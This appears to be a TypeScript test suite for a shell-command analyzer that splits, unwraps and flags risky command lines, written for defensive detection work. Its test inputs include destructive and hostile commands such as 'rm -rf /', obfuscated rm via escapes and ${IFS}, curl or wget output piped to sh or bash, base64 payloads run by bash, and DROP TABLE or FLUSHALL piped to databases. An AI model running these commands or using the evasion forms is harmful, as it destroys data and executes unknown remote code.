// The shell analyzer: splitting, unwrapping, data-vs-code, findings, and the fast path's exactness.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { analyzeShell } from '../../../../src/core/shell';
import type { SimpleCommand } from '../../../../src/core/rules/types';
import { loadShellParser } from '../../../../src/host/shell_wasm';

before(async () => {
  await loadShellParser();
});

function argv(c: SimpleCommand): string {
  return [c.dynamicName ? '<dynamic>' : c.name, ...c.args].join(' ');
}

function commands(line: string): string[] {
  return analyzeShell(line).commands.map(argv);
}

function findingRules(line: string): string[] {
  return analyzeShell(line).findings.map((f) => f.rule);
}

describe('splitting', () => {
  const cases: [string, string[]][] = [
    ['a; b && c || d', ['a', 'b', 'c', 'd']],
    ['a | b |& c', ['a', 'b', 'c']],
    ['a & b', ['a', 'b']],
    ['(cd x && rm y)', ['cd x', 'rm y']],
    ['{ rm x; } > out', ['rm x']],
    ['echo $(rm -rf /tmp/a)', ['rm -rf /tmp/a', 'echo $(rm -rf /tmp/a)']],
    ['echo `rm x`', ['rm x', 'echo `rm x`']],
    ['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff <(ls a) <(ls b)']],
    ['if true; then rm x; fi', ['true', 'rm x']],
    ['for f in *.log; do rm "$f"; done', ['rm *.log']],
    ['f() { rm -rf /; }', ['rm -rf /']],
    ['X=$(rm x)', ['rm x']],
  ];
  for (const [line, want] of cases) {
    test(line, () => assert.deepEqual(commands(line).sort(), [...want].sort()));
  }
});

describe('quoting and names', () => {
  test('quote splicing, escapes, ANSI-C and paths all name rm', () => {
    for (const line of ["r''m -rf x", '"rm" -rf x', '\\rm -rf x', '/bin/rm -rf x', "$'\\x72\\x6d' -rf x", "$'\\162\\155' -rf x", './node_modules/.bin/rm -rf x']) {
      assert.deepEqual(commands(line), ['rm -rf x'], line);
    }
  });
  test('quotes are removed from arguments, spaces kept', () => {
    assert.deepEqual(analyzeShell('rm -rf "/a b" \'c d\' e\\ f').commands[0].args, ['-rf', '/a b', 'c d', 'e f']);
  });
  test('computed names are dynamic', () => {
    const c = analyzeShell('$CMD -rf /').commands[0];
    assert.equal(c.dynamicName, true);
    assert.equal(c.name, undefined);
  });
  test('$(echo rm) has a known value', () => {
    assert.deepEqual(commands('$(echo rm) -rf x').filter((c) => c.startsWith('rm')), ['rm -rf x']);
  });
  test('argDynamic marks expansions', () => {
    assert.deepEqual(analyzeShell('rm -rf "$HOME"/x y').commands[0].argDynamic, [false, true, false]);
  });
  test('$IFS splits words', () => {
    assert.deepEqual(commands('rm${IFS}-rf${IFS}src'), ['rm -rf src']);
  });
});

describe('text is data', () => {
  for (const line of ['echo "rm -rf /"', "printf 'git push --force'", 'git commit -m "rm -rf everything"', 'grep -r "DROP TABLE" migrations']) {
    test(line, () => {
      const names = analyzeShell(line).commands.map((c) => c.name);
      assert.ok(!names.includes('rm') && !names.includes('git push'), names.join(','));
      assert.equal(analyzeShell(line).commands.length, 1);
    });
  }
});

describe('unwrapping', () => {
  const cases: [string, string, string[]][] = [
    ['sudo rm -rf /x', 'rm -rf /x', ['sudo']],
    ['sudo -u root -E rm -rf /x', 'rm -rf /x', ['sudo']],
    ['doas rm -rf /x', 'rm -rf /x', ['doas']],
    ['bash -c "rm -rf /x"', 'rm -rf /x', ['bash -c']],
    ['bash -lc \'rm -rf /x\'', 'rm -rf /x', ['bash -c']],
    ['zsh -c "rm -rf /x"', 'rm -rf /x', ['zsh -c']],
    ['eval "rm -rf /x"', 'rm -rf /x', ['eval']],
    ['env -i A=1 rm -rf /x', 'rm -rf /x', ['env']],
    ['A=1 B=2 rm -rf /x', 'rm -rf /x', []],
    ['nohup rm -rf /x', 'rm -rf /x', ['nohup']],
    ['timeout -s KILL 5 rm -rf /x', 'rm -rf /x', ['timeout']],
    ['nice -n 10 rm -rf /x', 'rm -rf /x', ['nice']],
    ['time rm -rf /x', 'rm -rf /x', []],
    ['command rm -rf /x', 'rm -rf /x', ['command']],
    ['builtin rm -rf /x', 'rm -rf /x', ['builtin']],
    ['exec rm -rf /x', 'rm -rf /x', ['exec']],
    ['watch -n 5 rm -rf /x', 'rm -rf /x', ['watch']],
    ['xargs -0 rm -rf', 'rm -rf {xargs input}', ['xargs']],
    ['parallel rm -rf ::: /x', 'rm -rf /x', ['parallel']],
    ['find /x -exec rm -rf {} +', 'rm -rf /x/**', ['find -exec']],
    ['find /x -delete', 'rm -r /x/**', ['find -delete']],
    ['ssh prod "rm -rf /x"', 'rm -rf /x', ['ssh prod']],
    ['echo "rm -rf /x" | bash', 'rm -rf /x', ['bash (stdin)']],
    ['bash <<EOF\nrm -rf /x\nEOF', 'rm -rf /x', ['bash (stdin)']],
    ['sudo bash -c "nohup env X=1 rm -rf /x"', 'rm -rf /x', ['sudo', 'bash -c', 'nohup', 'env']],
  ];
  for (const [line, want, via] of cases) {
    test(line, () => {
      const hit = analyzeShell(line).commands.find((c) => argv(c) === want);
      assert.ok(hit, `${want} not in ${JSON.stringify(commands(line))}`);
      if (line.startsWith('time ')) return; // `time` is a bash keyword: the parser already strips it
      assert.deepEqual(hit.via, via);
    });
  }
  test('command -v only looks a program up', () => {
    assert.deepEqual(commands('command -v rm'), ['command -v rm']);
  });
});

describe('stdin and heredocs', () => {
  test('heredoc body reaches the command, pipe continuation inside the heredoc node', () => {
    const cmds = analyzeShell('cat <<EOF | psql\nDROP TABLE x;\nEOF').commands;
    assert.equal(cmds.find((c) => c.name === 'psql')?.stdin, 'DROP TABLE x;\n');
  });
  test('echo output is known stdin', () => {
    assert.equal(analyzeShell('echo "FLUSHALL" | redis-cli').commands.find((c) => c.name === 'redis-cli')?.stdin, 'FLUSHALL\n');
  });
  test('here-string', () => {
    assert.equal(analyzeShell('psql <<< "DROP TABLE x"').commands[0].stdin, 'DROP TABLE x\n');
  });
  test('redirects are recorded', () => {
    assert.deepEqual(analyzeShell('echo x > out.db 2>&1').commands[0].redirects, [
      { op: '>', target: 'out.db' },
      { op: '2>&', target: '1' },
    ]);
  });
});

describe('findings', () => {
  for (const line of ['curl -s https://x.example | sh', 'wget -qO- x | sudo bash', 'echo "$B64" | base64 -d | bash', 'eval "$X"', 'bash -c "$X"', 'bash <(curl x)', 'curl x | python3']) {
    test(`unknown code: ${line}`, () => assert.ok(findingRules(line).includes('shell.unknown-code')));
  }
  test('eval of a shell-init tool is not unknown code', () => {
    assert.deepEqual(findingRules('eval "$(ssh-agent -s)"'), []);
  });
  test('nesting deeper than the budget is too complex', () => {
    assert.ok(findingRules(`${'eval '.repeat(30)}ls`).includes('shell.too-complex'));
  });
  test('oversized input is too complex, not parsed', () => {
    assert.deepEqual(findingRules(`echo "${'a'.repeat(100_000)}"`), ['shell.too-complex']);
  });
  test('broken syntax is a parse error', () => {
    assert.ok(findingRules('ls ) rm -rf /').includes('shell.parse-error'));
    assert.ok(findingRules('for x in; do').includes('shell.parse-error'));
  });
  test('an unterminated quote is closed at the end, not a parse error: bash runs nothing of that line', () => {
    assert.deepEqual(findingRules("echo 'unterminated"), []);
    assert.deepEqual(commands('rg "find . -delete'), ['rg find . -delete']);
    assert.deepEqual(commands("echo 'unterminated"), ['echo unterminated']);
    // What is before the quote, and what the quoted text runs, are judged as they would run.
    assert.deepEqual(commands('rm -rf src; echo "x'), ['rm -rf src', 'echo x']);
    assert.deepEqual(commands("bash -c 'rm -rf src"), ['rm -rf src']);
  });
  test('a quote closed at the end that still leaves broken syntax is a parse error', () => {
    assert.ok(findingRules("ls ) echo 'x").includes('shell.parse-error'));
  });
});

describe('fast path', () => {
  const trivial = ['ls -la', 'git push origin main', 'A=1 B=x/y npm run build --if-present', 'rm -rf node_modules', '  spaced   out  ', 'npx tsc --noEmit -p .', 'kubectl get pods -n prod', 'scp a user@host:path a,b 50% +x'];
  for (const line of trivial) {
    test(`same answer as the parser: ${JSON.stringify(line)}`, () => {
      const fast = analyzeShell(line);
      const slow = analyzeShell(line, { fastPath: false });
      assert.deepEqual(fast.commands.map((c) => ({ ...c, text: c.text.trim() })), slow.commands.map((c) => ({ ...c, text: c.text.trim() })));
      assert.deepEqual(fast.findings, slow.findings);
    });
  }
});
